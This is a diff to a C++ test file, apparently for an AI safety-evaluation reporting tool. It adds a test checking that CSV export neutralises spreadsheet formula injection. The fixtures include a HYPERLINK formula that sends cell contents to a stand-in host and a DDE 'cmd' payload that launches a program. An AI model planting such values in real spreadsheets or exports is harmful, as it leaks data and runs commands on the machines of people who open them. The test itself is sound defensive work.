@@ -71,7 +71,34 @@ TEST(ItemsCsv, ReplacesInvalidUtf8AndShowsRedactedResponses) {
   EXPECT_EQ(csv.find("step-by-step"), std::string::npos);
 }
 
+TEST(ItemsCsv, GuardsCellsThatASpreadsheetWouldRunAsFormulas) {
+  ReportData data;
+  ReportItem item =
+      testing::FixtureItem("=1+1", "vcr", Intent::kHarmful, ResponseClass::kRefuses, false);
+  item.response = "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")";
+  item.error = "@SUM(A1)";
+  data.items.push_back(item);
+  ReportItem quoted = item;
+  quoted.prompt.id = "-2";
+  quoted.response = "\t+cmd|' /C calc'!A0";
+  quoted.error = "'already";
+  data.items.push_back(quoted);
+  std::string csv = RenderItemsCsv(data);
+  EXPECT_EQ(csv.substr(std::string(kHeader).size()),
+            "'=1+1,vcr,harmful,,,judged,refuses,false,0.750,rules@1,'@SUM(A1),"
+            "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"\r\n"
+            "'-2,vcr,harmful,,,judged,refuses,false,0.750,rules@1,''already,"
+            "'\t+cmd|' /C calc'!A0\r\n");
+}
+
 TEST(ItemsCsv, EmptyRunIsTheHeader) { EXPECT_EQ(RenderItemsCsv(ReportData{}), kHeader); }
+
+TEST(ItemsCsv, ItemByItemRowsAreTheRender) {
+  ReportData data = testing::FixtureReportData(false);
+  std::string streamed(ItemsCsvHeader());
+  for (const ReportItem& item : data.items) AppendItemCsvRows(item, &streamed);
+  EXPECT_EQ(streamed, RenderItemsCsv(data));
+}
 
 }  // namespace
 }  // namespace safeval
